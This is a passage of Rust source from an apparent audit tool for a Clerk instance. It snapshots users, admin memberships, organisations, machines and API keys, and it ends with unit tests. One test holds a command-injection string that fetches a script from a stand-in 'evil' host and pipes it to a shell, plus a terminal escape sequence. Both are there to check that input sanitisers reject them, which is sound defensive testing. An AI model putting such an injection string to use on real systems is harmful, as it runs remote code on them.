        findings: audit.findings,
        checked,
        not_checked: not_checked.into_iter().chain(audit.partial).collect(),
        blind_spots: blind_spots(baseline, window),
        calls: api.counters().requests - started,
    };
    report.sort();
    report
}

/// Takes a [`Baseline`] of the instance at `taken_at_ms`: every user's digest, admin
/// memberships, organisations, machines, the API keys of organisations and machines, the
/// other lists and the instance settings.
///
/// # Errors
///
/// The first [`ApiError`]: a baseline with gaps would make later audits report things that
/// were always there.
pub async fn snapshot(api: &ClerkApi, taken_at_ms: i64) -> Result<Baseline, ApiError> {
    let instance = api
        .get_object("get instance", "/v1/instance".to_owned())
        .await?;
    let mut baseline = Baseline::new(id_of(&instance), object_digest(&instance), taken_at_ms);
    let list = |operation: &'static str,
                path: &str,
                params: Vec<(&'static str, String)>,
                shape,
                page_size| ListCall {
        operation,
        path: path.to_owned(),
        params,
        shape,
        page_size,
    };
    let users = api
        .list_objects(
            &list(
                "list users",
                "/v1/users",
                vec![("order_by", "+created_at".to_owned())],
                ListShape::Array,
                Some(MAX_PAGE_SIZE),
            ),
            |_| true,
        )
        .await?;
    baseline.users = users
        .iter()
        .map(|user| (id_of(user), UserDigest::of(user)))
        .collect();
    let memberships = api
        .list_objects(
            &list(
                "list organization memberships",
                "/v1/organization_memberships",
                vec![("order_by", "+created_at".to_owned())],
                ListShape::Wrapped("data"),
                Some(MAX_PAGE_SIZE),
            ),
            |_| true,
        )
        .await?;
    baseline.admin_memberships = memberships
        .iter()
        .filter(|m| m["role"].as_str().is_some_and(is_admin_role))
        .map(|m| {
            (
                id_of(m),
                MembershipDigest {
                    organization_id: m
                        .pointer("/organization/id")
                        .and_then(Value::as_str)
                        .unwrap_or_default()
                        .to_owned(),
                    user_id: m
                        .pointer("/public_user_data/user_id")
                        .and_then(Value::as_str)
                        .unwrap_or_default()
                        .to_owned(),
                    role: m["role"].as_str().unwrap_or_default().to_owned(),
                },
            )
        })
        .collect();
    let organizations = api
        .list_objects(
            &list(
                "list organizations",
                "/v1/organizations",
                vec![("order_by", "+created_at".to_owned())],
                ListShape::Wrapped("data"),
                Some(MAX_PAGE_SIZE),
            ),
            |_| true,
        )
        .await?;
    baseline.organizations = organizations
        .iter()
        .map(|o| (id_of(o), object_digest(o)))
        .collect();
    let machines = api
        .list_objects(
            &list(
                "list machines",
                "/v1/machines",
                Vec::new(),
                ListShape::Wrapped("data"),
                Some(MAX_PAGE_SIZE),
            ),
            |_| true,
        )
        .await?;
    baseline.machines = machines
        .iter()
        .map(|m| (id_of(m), object_digest(m)))
        .collect();
    let subjects: Vec<String> = baseline
        .organizations
        .keys()
        .chain(baseline.machines.keys())
        .cloned()
        .collect();
    for subject in subjects {
        let keys = api
            .list_objects(
                &list(
                    "list api keys",
                    "/v1/api_keys",
                    vec![("subject", subject.clone())],
                    ListShape::Wrapped("data"),
                    Some(CREDENTIAL_PAGE_SIZE),
                ),
                |_| true,
            )
            .await?;
        baseline
            .api_keys
            .extend(keys.iter().map(|key| (id_of(key), subject.clone())));
    }
    for collection in &COLLECTIONS {
        let objects = api
            .list_objects(
                &list(
                    collection.check,
                    &format!("/v1/{}", collection.path),
                    Vec::new(),
                    collection.shape,
                    collection.paged.then_some(MAX_PAGE_SIZE),
                ),
                |_| true,
            )
            .await?;
        let digests: BTreeMap<String, String> = objects
            .iter()
            .map(|o| (id_of(o), object_digest(o)))
            .collect();
        baseline.objects.insert(collection.path.to_owned(), digests);
    }
    Ok(baseline)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::{is_admin_membership, is_admin_role, metadata_summary, printable, safe_id};

    #[test]
    fn access_granting_metadata_is_shown_with_its_value_and_credentials_never() {
        let public = json!({
            "role": "admin",
            "theme": "dark",
            "isStaff": true,
            "admin_token": "ghp_secret",
            "plan": "a very long value that could be anything at all, really"
        });
        let summary = metadata_summary(&public, true);
        assert_eq!(
            summary.as_deref(),
            Some("admin_token, isStaff = true, plan, role = \"admin\", theme")
        );
        assert_eq!(
            metadata_summary(&public, false).as_deref(),
            Some("admin_token, isStaff, plan, role, theme"),
            "private metadata shows names only"
        );
        assert_eq!(metadata_summary(&json!({}), true), None);
        assert!(is_admin_role("org:admin"));
        assert!(is_admin_role("org:billing_admin"));
        assert!(!is_admin_role("org:member"));
        assert!(is_admin_membership(
            &json!({"role": "org:owner", "permissions": ["org:sys_memberships:manage"]})
        ));
        assert!(!is_admin_membership(
            &json!({"role": "org:member", "permissions": ["org:sys_memberships:read"]})
        ));
    }

    #[test]
    fn hostile_text_cannot_reach_a_terminal_or_a_pasted_command() {
        assert_eq!(printable("a\u{1b}[2Jb\n"), "a?[2Jb?");
        assert!(safe_id("user_2x9AbC"));
        assert!(!safe_id("user_x'$(curl evil|sh)'"));
        assert!(!safe_id(""));
    }
}
